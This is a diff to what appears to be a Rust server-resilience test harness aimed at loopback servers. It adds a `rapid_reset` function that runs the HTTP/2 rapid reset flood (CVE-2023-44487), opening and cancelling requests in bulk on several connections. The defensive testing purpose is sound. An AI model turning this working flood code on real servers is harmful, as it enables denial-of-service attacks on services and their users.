@@ -10,7 +10,7 @@
 //! deadline on every step. Targets are loopback addresses of servers the caller started.
 //!
 //! - Connections: [`idle_tcp`], [`idle_h2`], [`garbage`].
-//! - Requests: [`unfinished_bodies`], [`oversized`] + [`send_at_rate`], [`flood`], [`election_forgeries`].
+//! - Requests: [`rapid_reset`], [`unfinished_bodies`], [`oversized`] + [`send_at_rate`], [`flood`], [`election_forgeries`].
 //! - Streams: [`never_read_streams`].
 //! - Servers that misbehave: [`Stalled`] (accepts, never answers).
 //! - Berkeley: [`FakeMaster`] (a master that records the claim a slave registers with, so its adjustments
@@ -700,6 +700,45 @@ pub async fn unfinished_bodies(
             }
         }
         out.conns.push(conn);
+    }
+    out
+}
+
+/// What a rapid-reset flood did.
+#[derive(Debug, Clone, Default)]
+pub struct RapidReset {
+    /// Requests opened and at once cancelled.
+    pub reset: usize,
+    /// Connections the server closed (it answers such a flood with GOAWAY).
+    pub closed: usize,
+    pub conns: usize,
+}
+
+/// HTTP/2 rapid reset (CVE-2023-44487): on each of `conns` connections, opens `per_conn` requests to
+/// `path` and cancels each at once (RST_STREAM), never waiting for an answer; stops on a connection the
+/// server closed. Each step has `within`.
+pub async fn rapid_reset(addr: &str, path: &str, conns: usize, per_conn: usize, within: Duration) -> RapidReset {
+    let mut out = RapidReset { conns, ..RapidReset::default() };
+    let message = frame(&[]);
+    for _ in 0..conns {
+        let Ok(conn) = Conn::connect(addr, within).await else { continue };
+        for _ in 0..per_conn {
+            match conn.open(path, message.clone(), true, within).await {
+                Ok((_, mut stream)) => {
+                    stream.send_reset(h2::Reason::CANCEL);
+                    out.reset += 1;
+                }
+                Err(_) => break,
+            }
+            if conn.is_closed() {
+                break;
+            }
+        }
+        // Give the server a moment to answer the last resets.
+        tokio::time::sleep(Duration::from_millis(20)).await;
+        if conn.is_closed() {
+            out.closed += 1;
+        }
     }
     out
 }
